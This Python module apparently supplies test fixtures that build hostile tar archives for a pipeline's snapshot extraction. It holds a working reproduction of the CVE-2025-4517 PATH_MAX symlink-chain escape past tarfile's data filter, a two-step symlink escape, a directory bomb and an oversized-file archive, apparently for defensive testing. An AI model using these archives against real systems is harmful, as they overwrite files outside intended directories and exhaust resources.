"""Hostile tarballs a pipeline can store in ``handoff_snapshots`` (built here, byte for byte)."""

from __future__ import annotations

import io
import tarfile

LONG_DIR = "d" * 247
STEPS = "abcdefghijklmnop"


def _add(tar: tarfile.TarFile, name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    if kind == tarfile.REGTYPE:
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    else:
        tar.addfile(info)


def path_max_chain(levels_up: int, payload: str) -> bytes:
    """The technique of CVE-2025-4517: long directory names reached through one-letter links, so the resolved
    path passes PATH_MAX and ``os.path.realpath`` (which tarfile's ``data`` filter relies on) stops resolving,
    while the kernel follows every link. ``escape`` then points ``levels_up`` above the tree, and
    ``escape/<payload>`` is written there."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        prefix = ""
        for step in STEPS:
            _add(tar, prefix + LONG_DIR, tarfile.DIRTYPE)
            _add(tar, prefix + step, tarfile.SYMTYPE, LONG_DIR)
            prefix += LONG_DIR + "/"
        deep = "/".join(STEPS) + "/" + "l" * 254
        _add(tar, deep, tarfile.SYMTYPE, "../" * len(STEPS))
        _add(tar, "escape", tarfile.SYMTYPE, deep + "/" + "../" * levels_up)
        _add(tar, f"escape/{payload}", tarfile.REGTYPE, data=b"written outside the workspace\n")
    return buffer.getvalue()


def two_step_link() -> bytes:
    """``l -> d/e/d/e/../..`` looks inside the tree when it is stored; ``d/e -> ..`` stored after it makes it
    climb out."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        _add(tar, "d", tarfile.DIRTYPE)
        _add(tar, "l", tarfile.SYMTYPE, "d/e/d/e/../..")
        _add(tar, "d/e", tarfile.SYMTYPE, "..")
    return buffer.getvalue()


def directory_bomb(directories: int) -> bytes:
    """Only directories (and one file): nothing a file count alone would stop."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for i in range(directories):
            _add(tar, f"d{i}", tarfile.DIRTYPE)
        _add(tar, "one.py", tarfile.REGTYPE, data=b"x = 1\n")
    return buffer.getvalue()


def one_file(size: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        _add(tar, "big.bin", tarfile.REGTYPE, data=b"\0" * size)
    return buffer.getvalue()
